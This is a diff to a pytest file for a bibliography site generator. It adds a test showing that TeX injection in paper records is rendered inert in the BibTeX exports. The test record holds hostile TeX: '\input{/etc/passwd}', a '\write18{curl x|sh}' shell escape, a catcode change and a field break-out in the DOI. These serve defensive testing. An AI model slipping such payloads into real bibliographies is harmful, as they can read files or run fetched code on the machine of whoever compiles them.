@@ -15,11 +15,13 @@ import bibtexparser
 import jsonschema
 import pytest
 
-from generator import bibtex, exports
+from generator import bibtex, exports, pages
 from generator.build import generate
+from generator.context import Context, site_settings
 from generator.model import Collection, Paper
 from generator.records import load_collection
-from tests.tools.bibtext import names_of, text_of
+from generator.render import Renderer
+from tests.tools.bibtext import inert, names_of, text_of
 
 
 def parse_bib(text: str) -> bibtexparser.Library:
@@ -104,6 +106,36 @@ def test_math_that_could_run_tex_is_written_as_text(math: str) -> None:
         assert not re.search(r"\\(?!textbackslash\{\}|textbrace(left|right)\{\}|[%&#_$^~])",
                              value), (name, value)
         assert text_of(value).endswith(math + (" b" if name == "abstract" else ""))
+
+
+def test_the_cite_block_and_every_bib_file_write_tex_injection_as_text(
+        toy_project: Path) -> None:
+    """The paper page's Cite block and the paper, topic and collection .bib files all
+    come from one entry: none of them carries the record's TeX to the reader's LaTeX."""
+    collection, _ = load_collection(toy_project)
+    evil = dataclasses.replace(
+        collection.papers["nnose"], title=r"Skills $\input{/etc/passwd}$",
+        abstract=r"See $\immediate\write18{curl x|sh}$ and $\catcode`\^^M=13$.",
+        authors=("Procter and Gamble Research Lab", "Doe, Jane"),
+        doi=r"10.1000/x}\input{y}%")
+    ctx = Context(toy_project, Collection({"nnose": evil}, collection.topics),
+                  Renderer(**site_settings(toy_project)))
+    files = dict(exports.bib_files(ctx))
+    page = dict(pages.paper_pages(ctx))["papers/nnose.md"]
+    cite = html.unescape(str(page).split('<div class="paper-bibtex', 1)[1]
+                         .split("<code>", 1)[1].split("</code>", 1)[0])
+    for text in [cite, *(str(files[name]) for name in (
+            "papers.bib", "papers/nnose.bib", "topics/skill-extraction.bib"))]:
+        entry = parse_bib(text).entries[0]
+        values = {name: f.value for name, f in entry.fields_dict.items()}
+        assert all(inert(values[name]) for name in values
+                   if name in ("title", "author", "abstract")), values
+        assert text_of(values["title"]) == evil.title
+        assert names_of(values["author"]) == list(evil.authors)
+        assert unquote(values["doi"]) == evil.doi
+        assert not re.search(r"\\(input|immediate|write|catcode)", text)
+        if "abstract" in values:
+            assert text_of(values["abstract"]) == evil.abstract
 
 
 @pytest.mark.parametrize("math", [
